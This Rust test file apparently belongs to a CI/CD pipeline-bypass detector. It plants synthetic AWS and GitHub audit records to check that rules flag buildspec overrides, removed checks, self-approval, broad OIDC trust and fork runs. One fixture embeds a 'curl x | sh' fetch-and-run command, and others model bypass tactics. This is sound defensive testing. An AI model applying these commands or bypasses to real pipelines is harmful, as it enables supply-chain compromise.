//! SEC11-BP07's bypasses and untrusted input (issue 17): each rule and `checks_bypassed` on
//! planted records, with cases that must fire (their reason named) and quiet cases that must not;
//! Panther's GitHub cases for the same behaviour; the fork shapes of real webhook payloads.

use std::collections::{BTreeMap, HashSet};
use std::path::Path;

use pipewarden::detect::{DetectPlan, Report};
use pipewarden::lake::Dataset;
use serde_json::{Value, json};

use crate::helpers::*;

fn judge(lake: &str, until: &str, baseline: i64, window: i64, config: Option<&str>) -> Report {
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        let lake = local_lake(lake);
        let cfg = match config {
            Some(c) => pipewarden::attribute::config::Config::parse(c, "pipewarden.toml").unwrap(),
            None => Default::default(),
        };
        let ctx = pipewarden::engine::session_with(&lake, &cfg, &Default::default())
            .await
            .unwrap();
        pipewarden::detect::detect(
            &ctx,
            &DetectPlan {
                baseline_days: baseline,
                window_days: window,
                until: Some(chrono::NaiveDate::parse_from_str(until, "%Y-%m-%d").unwrap()),
                min_score: 0,
                ..Default::default()
            },
        )
        .await
        .unwrap()
    })
}

fn ingest_dir(dir: &Path, lake: &str, builds: bool) {
    let mut p = plan(dir.display().to_string(), lake);
    if builds {
        p.dataset = Dataset::Builds;
    }
    ingest(&p);
}

/// The findings of one detector, as (event ids, explanation).
fn of<'a>(r: &'a Report, detector: &str) -> Vec<&'a pipewarden::detect::Finding> {
    r.findings
        .iter()
        .filter(|f| f.detector == detector)
        .collect()
}

fn fired(r: &Report, detector: &str, event: &str) -> bool {
    of(r, detector)
        .iter()
        .any(|f| f.event_ids.iter().any(|e| e == event))
}

const ACCT: &str = "111111111111";

fn ct(id: &str, time: &str, source: &str, name: &str, who: &str, req: Value, resp: Value) -> Value {
    let mut user = json!({"type": "AssumedRole", "principalId": format!("AROAX:{who}"),
        "arn": format!("arn:aws:sts::{ACCT}:assumed-role/AWSReservedSSO_Admin_0123/{who}"),
        "accountId": ACCT, "accessKeyId": "ASIAPERSON0000000000",
        "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAX",
            "arn": format!("arn:aws:iam::{ACCT}:role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_Admin_0123"),
            "accountId": ACCT, "userName": "AWSReservedSSO_Admin_0123"}}});
    let mut ip = "198.51.100.7".to_string();
    if who == "codepipeline" {
        user = json!({"type": "AssumedRole", "principalId": "AROAPIPE:session",
            "arn": format!("arn:aws:sts::{ACCT}:assumed-role/pipeline-role/session"),
            "accountId": ACCT, "invokedBy": "codepipeline.amazonaws.com",
            "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAPIPE",
                "arn": format!("arn:aws:iam::{ACCT}:role/pipeline-role"), "accountId": ACCT,
                "userName": "pipeline-role"}}});
        ip = "codepipeline.amazonaws.com".into();
    }
    json!({"eventVersion": "1.08", "eventTime": time, "eventSource": source, "eventName": name,
        "awsRegion": "us-east-1", "sourceIPAddress": ip, "userAgent": "aws-cli/2.15.0",
        "eventID": id, "eventType": "AwsApiCall", "readOnly": false, "managementEvent": true,
        "recipientAccountId": ACCT, "userIdentity": user,
        "requestParameters": req, "responseElements": resp})
}

/// An action: name, category, CodeBuild project.
type Act<'a> = (&'a str, &'a str, Option<&'a str>);

fn pipeline_def(stages: &[(&str, &[Act])]) -> Value {
    let st: Vec<Value> = stages
        .iter()
        .map(|(n, acts)| {
            json!({"name": n, "actions": acts.iter().map(|(a, c, p)| {
                let mut x = json!({"name": a, "runOrder": 1, "actionTypeId":
                    {"category": c, "owner": "AWS", "provider": "CodeBuild", "version": "1"}});
                if let Some(p) = p { x["configuration"] = json!({"ProjectName": p}); }
                x
            }).collect::<Vec<_>>()})
        })
        .collect();
    json!({"name": "web-release", "roleArn": format!("arn:aws:iam::{ACCT}:role/pipeline-role"), "stages": st})
}

fn trust(sub: Option<(&str, &str)>) -> String {
    let mut cond =
        json!({"StringEquals": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com"}});
    if let Some((op, s)) = sub {
        cond[op] = json!({"token.actions.githubusercontent.com:sub": s});
    }
    json!({"Version": "2012-10-17", "Statement": [{"Effect": "Allow",
        "Principal": {"Federated": format!("arn:aws:iam::{ACCT}:oidc-provider/token.actions.githubusercontent.com")},
        "Action": "sts:AssumeRoleWithWebIdentity", "Condition": cond}]})
    .to_string()
}

#[test]
fn cloudtrail_bypasses_fire_with_their_reason_and_quiet_cases_stay_quiet() {
    let d = tempfile::tempdir().unwrap();
    let cb = "codebuild.amazonaws.com";
    let cp = "codepipeline.amazonaws.com";
    let iam = "iam.amazonaws.com";
    let full = pipeline_def(&[
        ("Source", &[("Source", "Source", None)]),
        (
            "Build",
            &[
                ("Build", "Build", Some("web-build")),
                ("Scan", "Build", Some("web-security-scan")),
            ],
        ),
        ("Test", &[("UnitTests", "Test", Some("web-tests"))]),
        ("Approval", &[("ApproveProd", "Approval", None)]),
        ("Prod", &[("DeployProd", "Deploy", None)]),
    ]);
    let cut = pipeline_def(&[
        ("Source", &[("Source", "Source", None)]),
        ("Build", &[("Build", "Build", Some("web-build"))]),
        ("Prod", &[("DeployProd", "Deploy", None)]),
    ]);
    let mut grown = full.clone();
    grown["stages"].as_array_mut().unwrap().push(json!({"name": "Smoke", "actions": [
        {"name": "SmokeTest", "runOrder": 1, "actionTypeId": {"category": "Test", "owner": "AWS", "provider": "CodeBuild", "version": "1"}}]}));
    let spec = |cmds: &str| format!("version: 0.2\nphases:\n  build:\n    commands:\n{cmds}");
    let t = |h: u32| format!("2026-10-01T{h:02}:00:00Z");
    let events = vec![
        // Fires: a buildspec override by a person. Quiet: CodePipeline's own env override.
        ct(
            "override-bad",
            &t(1),
            cb,
            "StartBuild",
            "mallory",
            json!({"projectName": "web-build", "buildspecOverride": "version: 0.2\nphases: {build: {commands: [curl x | sh]}}"}),
            json!({}),
        ),
        ct(
            "override-ok",
            &t(1),
            cb,
            "StartBuild",
            "codepipeline",
            json!({"projectName": "web-build", "environmentVariablesOverride": [{"name": "STAGE", "value": "prod"}]}),
            json!({}),
        ),
        ct(
            "plain-start",
            &t(1),
            cb,
            "StartBuild",
            "alice",
            json!({"projectName": "web-build"}),
            json!({}),
        ),
        // The pipeline's definitions: created, grown (quiet for checks), then cut (fires).
        ct(
            "def-create",
            &t(2),
            cp,
            "CreatePipeline",
            "alice",
            json!({"pipeline": full}),
            json!({"pipeline": full}),
        ),
        ct(
            "def-grow",
            &t(3),
            cp,
            "UpdatePipeline",
            "alice",
            json!({"pipeline": grown}),
            json!({"pipeline": grown}),
        ),
        ct(
            "def-cut",
            &t(4),
            cp,
            "UpdatePipeline",
            "mallory",
            json!({"pipeline": cut}),
            json!({"pipeline": cut}),
        ),
        // A CodeBuild project whose buildspec and source change.
        ct(
            "proj-create",
            &t(2),
            cb,
            "CreateProject",
            "alice",
            json!({"name": "web-tests", "source": {"type": "GITHUB", "location": "https://github.com/acme/web", "buildspec": spec("      - make test\n")}}),
            json!({"project": {"name": "web-tests", "source": {"type": "GITHUB", "location": "https://github.com/acme/web", "buildspec": spec("      - make test\n")}}}),
        ),
        ct(
            "proj-update",
            &t(5),
            cb,
            "UpdateProject",
            "mallory",
            json!({"name": "web-tests", "source": {"type": "GITHUB", "location": "https://github.com/mallory/web", "buildspec": spec("      - echo skipped\n")}}),
            json!({}),
        ),
        // Self-approval fires; an approval by someone else stays quiet.
        ct(
            "start-1",
            &t(6),
            cp,
            "StartPipelineExecution",
            "mallory",
            json!({"name": "web-release"}),
            json!({"pipelineExecutionId": "exec-1"}),
        ),
        ct(
            "approve-self",
            &t(7),
            cp,
            "PutApprovalResult",
            "mallory",
            json!({"pipelineName": "web-release", "stageName": "Approval", "actionName": "ApproveProd", "result": {"status": "Approved", "summary": "lgtm"}, "token": "t"}),
            json!({}),
        ),
        ct(
            "start-2",
            &t(8),
            cp,
            "StartPipelineExecution",
            "alice",
            json!({"name": "web-release"}),
            json!({"pipelineExecutionId": "exec-2"}),
        ),
        ct(
            "approve-other",
            &t(9),
            cp,
            "PutApprovalResult",
            "bob",
            json!({"pipelineName": "web-release", "stageName": "Approval", "actionName": "ApproveProd", "result": {"status": "Approved", "summary": "ok"}, "token": "t"}),
            json!({}),
        ),
        ct(
            "transition",
            &t(10),
            cp,
            "DisableStageTransition",
            "mallory",
            json!({"pipelineName": "web-release", "stageName": "Test", "transitionType": "Inbound", "reason": "hold"}),
            json!({}),
        ),
        // OIDC trusts: open (fires 90), org-wide (fires 80), scoped (quiet).
        ct(
            "trust-open",
            &t(11),
            iam,
            "CreateRole",
            "mallory",
            json!({"roleName": "gha-open", "assumeRolePolicyDocument": trust(None)}),
            json!({}),
        ),
        ct(
            "trust-org",
            &t(11),
            iam,
            "UpdateAssumeRolePolicy",
            "mallory",
            json!({"roleName": "gha-org", "policyDocument": trust(Some(("StringLike", "repo:acme/*")))}),
            json!({}),
        ),
        ct(
            "trust-scoped",
            &t(11),
            iam,
            "CreateRole",
            "alice",
            json!({"roleName": "gha-web",
            "assumeRolePolicyDocument": trust(Some(("StringEquals", "repo:acme/web:ref:refs/heads/main")))}),
            json!({}),
        ),
    ];
    std::fs::write(
        d.path().join("trail.json"),
        json!({"Records": events}).to_string(),
    )
    .unwrap();
    let lake = d.path().join("lake").display().to_string();
    ingest_dir(d.path(), &lake, false);
    let r = judge(&lake, "2026-10-02", 1, 1, None);

    let o = of(&r, "codebuild_build_override");
    assert_eq!(
        o.len(),
        1,
        "{:?}",
        o.iter().map(|f| &f.explanation).collect::<Vec<_>>()
    );
    assert_eq!(o[0].event_ids, ["override-bad"]);
    assert!(
        o[0].explanation
            .contains("overriding buildspecOverride; buildspec: version: 0.2"),
        "{}",
        o[0].explanation
    );
    assert_eq!(
        o[0].pipeline_id.as_deref(),
        Some("codebuild:111111111111:us-east-1:web-build")
    );

    let c = of(&r, "pipeline_checks_removed");
    assert_eq!(c.len(), 1);
    assert_eq!(c[0].event_ids, ["def-cut"], "{}", c[0].explanation);
    for want in [
        "UnitTests (Test, CodeBuild, project web-tests)",
        "ApproveProd (Approval",
        "Scan (Build, CodeBuild, project web-security-scan)",
        "SmokeTest (Test",
    ] {
        assert!(
            c[0].explanation.contains(want),
            "{want}: {}",
            c[0].explanation
        );
    }

    // The definition change names what changed, against the lake's earlier definition.
    let changed = of(&r, "pipeline_definition_changed");
    let text: Vec<&str> = changed.iter().map(|f| f.explanation.as_str()).collect();
    let all = text.join("\n");
    assert!(all.contains("UpdatePipeline by arn:aws:sts::111111111111:assumed-role/AWSReservedSSO_Admin_0123/mallory: stages removed: Test, Approval, Smoke"), "{all}");
    assert!(
        all.contains(
            "source location https://github.com/acme/web → https://github.com/mallory/web"
        ),
        "{all}"
    );
    assert!(
        all.contains("buildspec lines - `- make test`, + `- echo skipped`"),
        "{all}"
    );

    let s = of(&r, "self_approval");
    assert_eq!(s.len(), 1);
    assert_eq!(s[0].event_ids, ["approve-self"]);
    assert!(
        s[0].explanation.contains("who started execution exec-1"),
        "{}",
        s[0].explanation
    );

    assert!(fired(&r, "stage_transition_disabled", "transition"));
    assert!(
        of(&r, "stage_transition_disabled")[0]
            .explanation
            .contains("Inbound transition of stage Test")
    );

    let t = of(&r, "oidc_trust_too_broad");
    let by: BTreeMap<&str, (u32, &str)> = t
        .iter()
        .map(|f| (f.event_ids[0].as_str(), (f.score, f.explanation.as_str())))
        .collect();
    assert_eq!(
        by.keys().copied().collect::<Vec<_>>(),
        ["trust-open", "trust-org"]
    );
    assert_eq!(by["trust-open"].0, 90);
    assert!(
        by["trust-open"]
            .1
            .contains("no condition on token.actions.githubusercontent.com:sub")
    );
    assert_eq!(by["trust-org"].0, 80);
    assert!(
        by["trust-org"]
            .1
            .contains("\"repo:acme/*\" lets more than one repository in")
    );
}

/// A native build record.
fn build(
    time: &str,
    run: &str,
    attempt: i64,
    level: &str,
    job: Option<&str>,
    conclusion: &str,
    env: Option<&str>,
) -> Value {
    let mut v = json!({"schema": "pipewarden.build/v1", "time": time, "system": "github",
        "pipeline": "github:acme/web:deploy.yml", "repository": "acme/web", "run_id": run,
        "run_attempt": attempt, "level": level, "status": "completed", "conclusion": conclusion,
        "event_id": format!("{run}-{attempt}-{level}-{}", job.unwrap_or("run")), "branch": "main",
        "actor": "alice", "started_at": time});
    if let Some(j) = job {
        v["job_name"] = json!(j);
        v["job_id"] = json!(format!("{run}-{j}-{attempt}"));
    }
    if let Some(e) = env {
        v["environment"] = json!(e);
    }
    v
}

/// A run: its jobs (name, conclusion) per attempt, and a deployment record when it deployed.
fn run_records(day: u32, run: &str, attempts: &[&[(&str, &str)]], deployed: bool) -> Vec<Value> {
    let mut out = vec![];
    let time = |m: u32| format!("2026-09-{day:02}T10:{m:02}:00Z");
    out.push(build(
        &time(0),
        run,
        attempts.len() as i64,
        "run",
        None,
        "success",
        None,
    ));
    for (a, jobs) in attempts.iter().enumerate() {
        for (i, (j, c)) in jobs.iter().enumerate() {
            out.push(build(
                &time(1 + (a * 10 + i) as u32),
                run,
                a as i64 + 1,
                "job",
                Some(j),
                c,
                None,
            ));
        }
    }
    if deployed {
        out.push(build(
            &time(50),
            run,
            attempts.len() as i64,
            "deployment",
            Some("deploy"),
            "success",
            Some("prod"),
        ));
    }
    out
}

#[test]
fn checks_bypassed_fires_on_a_deploy_without_a_required_check_and_not_on_the_quiet_cases() {
    let d = tempfile::tempdir().unwrap();
    let usual: &[(&str, &str)] = &[
        ("test (3.11)", "success"),
        ("test (3.12)", "success"),
        ("security-scan", "success"),
        ("deploy", "success"),
    ];
    let mut recs = vec![];
    for day in 1..=10u32 {
        recs.extend(run_records(day, &format!("h{day}"), &[usual], true));
    }
    let judged = 20u32;
    // Fires: the scan skipped, and a matrix variant of test failed, and still it deployed.
    recs.extend(run_records(
        judged,
        "bad",
        &[&[
            ("test (3.11)", "success"),
            ("test (3.12)", "failure"),
            ("security-scan", "skipped"),
            ("deploy", "success"),
        ]],
        true,
    ));
    // Quiet: a failed test and no deploy; a re-run that passes, then deploys.
    recs.extend(run_records(
        judged,
        "failed",
        &[&[("test (3.11)", "failure"), ("security-scan", "success")]],
        false,
    ));
    recs.extend(run_records(
        judged,
        "rerun",
        &[
            &[
                ("test (3.11)", "failure"),
                ("test (3.12)", "success"),
                ("security-scan", "success"),
            ],
            usual,
        ],
        true,
    ));
    let text: String = recs.iter().map(|v| format!("{v}\n")).collect();
    std::fs::write(d.path().join("builds.jsonl"), text).unwrap();
    let lake = d.path().join("lake").display().to_string();
    ingest_dir(d.path(), &lake, true);
    let r = judge(&lake, "2026-09-21", 20, 1, None);
    let b = of(&r, "checks_bypassed");
    assert_eq!(
        b.len(),
        1,
        "{:?}",
        b.iter().map(|f| &f.explanation).collect::<Vec<_>>()
    );
    let f = b[0];
    assert_eq!(f.run_ids, ["bad"]);
    assert_eq!(f.value, "run bad without security-scan, test");
    assert!(f.explanation.contains("required check `security-scan` was skipped (it passed in 10 of the pipeline's 10 deploying runs before)"), "{}", f.explanation);
    assert!(
        f.explanation.contains("required check `test` failed"),
        "{}",
        f.explanation
    );
    assert!(
        f.explanation.contains("deployed to prod"),
        "{}",
        f.explanation
    );
    assert!(
        f.event_ids.iter().any(|e| e == "bad-1-job-security-scan"),
        "{:?}",
        f.event_ids
    );

    // A pipeline that never had a scan is not asked for one; a declared check is.
    let cfg = r#"
[[pipelines]]
id = "github:acme/web:deploy.yml"
repos = ["acme/web"]
required_checks = ["lint"]
"#;
    let r = judge(&lake, "2026-09-21", 20, 1, Some(cfg));
    let b = of(&r, "checks_bypassed");
    let runs: HashSet<&str> = b
        .iter()
        .flat_map(|f| f.run_ids.iter().map(String::as_str))
        .collect();
    assert_eq!(
        runs,
        HashSet::from(["bad", "rerun"]),
        "{:?}",
        b.iter().map(|f| &f.explanation).collect::<Vec<_>>()
    );
    assert!(b.iter().all(|f| f.explanation.contains("`lint` was missing (declared required in pipewarden.toml; passed before 0 of 10 deploying runs)")));
}

/// Panther rules that cover the same behaviour as a pipewarden rule over CI audit logs and
/// webhooks.
const PANTHER_CI: &[(&str, &[&str])] = &[
    (
        "branch_protection_bypassed",
        &[
            "GitHub.Branch.PolicyOverride",
            "GitHub.Branch.ProtectionDisabled",
        ],
    ),
    ("fork_pull_request_run", &["GitHub.CrossFork.Workflow.Run"]),
];

#[test]
fn ci_rules_agree_with_panther_test_cases() {
    let src = external().join("panther-analysis/labelled_cases.jsonl");
    let d = tempfile::tempdir().unwrap();
    let mut lines = String::new();
    let mut cases: Vec<(String, &str, bool, String)> = vec![];
    for (n, l) in std::fs::read_to_string(src).unwrap().lines().enumerate() {
        let v: Value = serde_json::from_str(l).unwrap();
        let rule_id = v["rule_id"].as_str().unwrap();
        let Some((ours, _)) = PANTHER_CI.iter().find(|(_, ps)| ps.contains(&rule_id)) else {
            continue;
        };
        let id = format!("case-{n}");
        let mut log = v["log"].clone();
        // Audit events carry their id; webhooks get theirs from the delivery headers.
        let record = if log
            .get("action")
            .and_then(Value::as_str)
            .is_some_and(|a| a.contains('.'))
        {
            log["_document_id"] = json!(id);
            log
        } else {
            json!({"headers": {"X-GitHub-Delivery": id, "X-GitHub-Event": "workflow_run"},
                "received_at": "2025-10-01T00:00:00Z", "body": log})
        };
        lines.push_str(&record.to_string());
        lines.push('\n');
        cases.push((
            id,
            ours,
            v["expected"].as_bool().unwrap(),
            format!("{rule_id}: {}", v["test_name"]),
        ));
    }
    std::fs::write(d.path().join("cases.jsonl"), lines).unwrap();
    let lake = d.path().join("lake").display().to_string();
    ingest_dir(d.path(), &lake, true);
    let r = judge(&lake, "2090-01-01", 1, 30_000, None);
    let mut fired_ids: HashSet<(String, String)> = HashSet::new();
    for f in &r.findings {
        for e in &f.event_ids {
            fired_ids.insert((f.detector.clone(), e.clone()));
        }
    }
    for (id, ours, expected, name) in &cases {
        let got = fired_ids.contains(&(ours.to_string(), id.clone()));
        assert_eq!(got, *expected, "{ours} vs {name}");
    }
    eprintln!(
        "panther CI agreement: {} cases agree: {:?}",
        cases.len(),
        cases.iter().map(|c| &c.3).collect::<Vec<_>>()
    );
    assert!(cases.len() >= 7, "{}", cases.len());
}

#[test]
fn ci_audit_bypasses_and_untrusted_runs_fire_and_quiet_cases_stay_quiet() {
    let d = tempfile::tempdir().unwrap();
    let audit = |id: &str, action: &str, extra: Value| {
        let mut v = json!({"_document_id": id, "action": action, "actor": "mallory",
            "@timestamp": 1790000000000i64, "repo": "acme/web", "org": "acme", "branch": "refs/heads/main"});
        for (k, x) in extra.as_object().unwrap() {
            v[k] = x.clone();
        }
        v
    };
    let wr = |id: &str, run: i64, event: &str, head: &str, repo: &str| {
        json!({"headers": {"X-GitHub-Delivery": id, "X-GitHub-Event": "workflow_run"},
            "body": {"action": "completed", "workflow_run": {"id": run, "name": "ci", "path": ".github/workflows/ci.yml",
                "event": event, "status": "completed", "conclusion": "success", "head_branch": "feature",
                "run_started_at": "2026-09-21T10:00:00Z", "updated_at": "2026-09-21T10:05:00Z",
                "created_at": "2026-09-21T10:00:00Z",
                "head_repository": {"full_name": head}, "pull_requests": []},
                "repository": {"full_name": repo}, "sender": {"login": "outsider"}}})
    };
    let recs = vec![
        audit(
            "bp-checks-off",
            "protected_branch.update_required_status_checks_enforcement_level",
            json!({"required_status_checks_enforcement_level": "off"}),
        ),
        audit(
            "bp-checks-on",
            "protected_branch.update_required_status_checks_enforcement_level",
            json!({"required_status_checks_enforcement_level": "everyone"}),
        ),
        audit(
            "bp-reviews-0",
            "protected_branch.update_required_approving_review_count",
            json!({"required_approving_review_count": 0}),
        ),
        audit(
            "bp-reviews-2",
            "protected_branch.update_required_approving_review_count",
            json!({"required_approving_review_count": 2}),
        ),
        audit(
            "rs-disabled",
            "repository_ruleset.update",
            json!({"ruleset_name": "main", "ruleset_enforcement": "disabled", "ruleset_old_enforcement": "active"}),
        ),
        audit(
            "rs-created",
            "repository_ruleset.create",
            json!({"ruleset_name": "main", "ruleset_enforcement": "active"}),
        ),
        audit(
            "env-rule-gone",
            "environment.remove_protection_rule",
            json!({"environment_name": "prod"}),
        ),
        audit(
            "env-rule-added",
            "environment.add_protection_rule",
            json!({"environment_name": "prod"}),
        ),
        audit(
            "run-deleted",
            "workflows.delete_workflow_run",
            json!({"workflow_run_id": 77}),
        ),
        json!({"id": "gl-unprotect", "author_id": 7, "entity_id": 3, "author_name": "mallory", "entity_type": "Project", "entity_path": "acme/api",
            "event_type": "protected_branch_removed", "target_details": "main", "created_at": "2026-09-21T10:00:00Z",
            "details": {"custom_message": "Unprotected branch", "author_name": "mallory", "target_details": "main"}}),
        json!({"id": "gl-approval", "author_id": 7, "entity_id": 3, "author_name": "mallory", "entity_type": "Project", "entity_path": "acme/api",
            "event_type": "approval_rule_deleted", "created_at": "2026-09-21T10:00:00Z",
            "details": {"custom_message": "Deleted approval rule Security", "author_name": "mallory"}}),
        // A fork's pull_request_target run; a same-repository pull request; a push.
        wr(
            "fork-prt",
            901,
            "pull_request_target",
            "outsider/web",
            "acme/web",
        ),
        wr("fork-pr", 902, "pull_request", "outsider/web", "acme/web"),
        wr("own-pr", 903, "pull_request", "acme/web", "acme/web"),
        wr("push", 904, "push", "acme/web", "acme/web"),
        // A self-hosted runner serving the fork's pull request.
        json!({"headers": {"X-GitHub-Delivery": "job-fork", "X-GitHub-Event": "workflow_job"},
            "body": {"action": "completed", "workflow_job": {"id": 5, "run_id": 902, "name": "build", "status": "completed",
                "conclusion": "success", "labels": ["self-hosted", "linux"], "runner_name": "build-box-1",
                "started_at": "2026-09-21T10:01:00Z", "completed_at": "2026-09-21T10:04:00Z"},
                "repository": {"full_name": "acme/web"}}}),
        json!({"headers": {"X-GitHub-Delivery": "job-own", "X-GitHub-Event": "workflow_job"},
            "body": {"action": "completed", "workflow_job": {"id": 6, "run_id": 903, "name": "build", "status": "completed",
                "conclusion": "success", "labels": ["self-hosted", "linux"], "runner_name": "build-box-1",
                "started_at": "2026-09-21T10:01:00Z", "completed_at": "2026-09-21T10:04:00Z"},
                "repository": {"full_name": "acme/web"}}}),
    ];
    let text: String = recs.iter().map(|v| format!("{v}\n")).collect();
    std::fs::write(d.path().join("ci.jsonl"), text).unwrap();
    let lake = d.path().join("lake").display().to_string();
    ingest_dir(d.path(), &lake, true);
    let r = judge(&lake, "2026-09-22", 1, 1, None);
    let ids = |det: &str| -> Vec<String> {
        let mut v: Vec<String> = of(&r, det)
            .iter()
            .flat_map(|f| f.event_ids.clone())
            .collect();
        v.sort();
        v
    };
    assert_eq!(
        ids("branch_protection_bypassed"),
        ["bp-checks-off", "bp-reviews-0", "gl-unprotect"]
    );
    let bp = of(&r, "branch_protection_bypassed");
    assert!(
        bp.iter().any(|f| f.value == "branch main of acme/web"
            && f.explanation.contains("required status checks turned off")),
        "{:?}",
        bp.iter()
            .map(|f| (&f.value, &f.explanation))
            .collect::<Vec<_>>()
    );
    assert_eq!(ids("ruleset_weakened"), ["rs-disabled"]);
    assert!(
        of(&r, "ruleset_weakened")[0]
            .explanation
            .contains("enforcement changed from active to disabled")
    );
    assert_eq!(ids("environment_protection_removed"), ["env-rule-gone"]);
    assert_eq!(ids("approval_rules_weakened"), ["gl-approval"]);
    assert_eq!(ids("workflow_run_deleted"), ["run-deleted"]);
    assert_eq!(ids("fork_pull_request_run"), ["fork-pr", "fork-prt"]);
    let fork = of(&r, "fork_pull_request_run");
    assert_eq!(fork[0].value, "pull requests from fork outsider/web");
    // The fork's run on a self-hosted runner is raised, and named by its own rule.
    assert_eq!(fork[0].score, 80, "{}", fork[0].explanation);
    assert_eq!(ids("self_hosted_runner_fork"), ["job-fork"]);
    assert!(
        of(&r, "self_hosted_runner_fork")[0]
            .explanation
            .contains("job build of run 902 from fork outsider/web on runner build-box-1")
    );
    // No credentials were obtained: untrusted triggers alone are not this rule's.
    assert!(ids("untrusted_trigger_credentials").is_empty());
}

/// Real payloads: octokit's workflow_run examples are read with their head repository (the
/// base repository itself, so no fork), and their trigger kept raw.
#[test]
fn octokit_workflow_runs_carry_their_head_repository() {
    let dir = external().join("octokit-webhooks/payload-examples/api.github.com/workflow_run");
    let d = tempfile::tempdir().unwrap();
    let mut text = String::new();
    for e in std::fs::read_dir(&dir).unwrap() {
        let v: Value =
            serde_json::from_str(&std::fs::read_to_string(e.unwrap().path()).unwrap()).unwrap();
        text.push_str(&v.to_string());
        text.push('\n');
    }
    std::fs::write(d.path().join("wr.jsonl"), text).unwrap();
    let lake = d.path().join("lake").display().to_string();
    ingest_dir(d.path(), &lake, true);
    let t = table(
        &lake,
        "SELECT DISTINCT repository, head_repository, trigger_raw FROM builds ORDER BY 1",
    );
    assert!(
        squash(&t).contains("|octo-org/octo-repo|octo-org/octo-repo|repository_dispatch|"),
        "{t}"
    );
    let forks = scalar(
        &lake,
        "SELECT count(*) FROM runs WHERE head_repository <> repository",
    );
    assert_eq!(forks, "0");
}

#[test]
fn generated_bypasses_are_found_by_their_detector_and_the_quiet_cases_stay_quiet() {
    let lake = sample_lake();
    let labels = sample_labels("labels.jsonl");
    let quiet = sample_labels("quiet.jsonl");
    assert_eq!(quiet.len(), 13);
    // What each bypass label's explanation must name.
    let reasons: BTreeMap<&str, &str> = [
        ("checks_bypassed", "`security-scan` was skipped"),
        (
            "codebuild_build_override",
            "buildspecOverride, privilegedModeOverride",
        ),
        (
            "self_approval",
            "approved by dave@acme.example, who started execution",
        ),
        ("pipeline_checks_removed", "SecurityScan (Build, CodeBuild"),
        (
            "stage_transition_disabled",
            "Inbound transition of stage Deploy",
        ),
        ("oidc_trust_too_broad", "\"repo:acme/*\""),
        ("untrusted_trigger_credentials", "from fork mallory-x/api"),
        (
            "branch_protection_bypassed",
            "protected_branch.policy_override",
        ),
        ("ruleset_weakened", "from active to disabled"),
        (
            "environment_protection_removed",
            "a protection rule removed",
        ),
        (
            "workflow_run_deleted",
            "workflows.delete_workflow_run of run",
        ),
        ("approval_rules_weakened", "approval_rule_deleted"),
        (
            "activity_outside_runs",
            "while no run was active; the run before",
        ),
        ("pipeline_silent", "no build record since"),
    ]
    .into_iter()
    .collect();
    // The anomaly days, judged against the 23 before (as `detect` tests it), at every score.
    let r = judge(lake, "2026-10-06", 23, 12, None);
    let first_unlabelled = r
        .findings
        .iter()
        .filter(|f| !labels.iter().any(|l| shows(l, f)))
        .map(|f| f.rank)
        .min()
        .unwrap_or(usize::MAX);
    for (kind, reason) in &reasons {
        let l = labels
            .iter()
            .find(|l| l.kind == *kind)
            .unwrap_or_else(|| panic!("no {kind} label in sample-logs"));
        let f = r
            .findings
            .iter()
            .find(|f| f.detector == *kind && shows(l, f))
            .unwrap_or_else(|| panic!("label {} ({kind}) not found by {kind}", l.id));
        assert!(
            f.explanation.contains(reason),
            "{kind}: {}",
            head(&f.explanation, 400)
        );
        assert!(
            f.rank < first_unlabelled,
            "{kind} at {}, below an unlabelled finding at {first_unlabelled}",
            f.rank
        );
    }
    // Precision of each bypass detector on the generated history: its findings that match a label.
    let mut precision = BTreeMap::new();
    for kind in reasons
        .keys()
        .copied()
        .chain(["fork_pull_request_run", "pipeline_definition_changed"])
    {
        let mine: Vec<_> = r.findings.iter().filter(|f| f.detector == kind).collect();
        let right = mine
            .iter()
            .filter(|f| labels.iter().any(|l| shows(l, f)))
            .count();
        precision.insert(kind, format!("{right}/{}", mine.len()));
        assert_eq!(
            right,
            mine.len(),
            "{kind}: {right} of {} findings match a label",
            mine.len()
        );
    }
    eprintln!("bypass detectors on sample-logs, findings matching a label: {precision:?}");
    // Quiet cases: nothing fires on them in the anomaly window or the quiet week they sit in,
    // and no bypass detector fires on them over the whole history (whose 4-day baseline is
    // too thin for the statistical detectors to be judged).
    let bypass_kinds: Vec<&str> = precision.keys().copied().collect();
    for (until, baseline, window, all) in [
        ("2026-10-06", 23, 12, true),
        ("2026-09-24", 16, 7, true),
        ("2026-10-06", 4, 31, false),
    ] {
        let r = judge(lake, until, baseline, window, None);
        for q in &quiet {
            let loud: Vec<_> = r
                .findings
                .iter()
                .filter(|f| shows(q, f) && (all || bypass_kinds.contains(&f.detector.as_str())))
                .map(|f| (f.detector.clone(), head(&f.explanation, 200).to_string()))
                .collect();
            assert!(
                loud.is_empty(),
                "quiet case {} ({}) gave {loud:?}",
                q.id,
                q.kind
            );
        }
    }
}
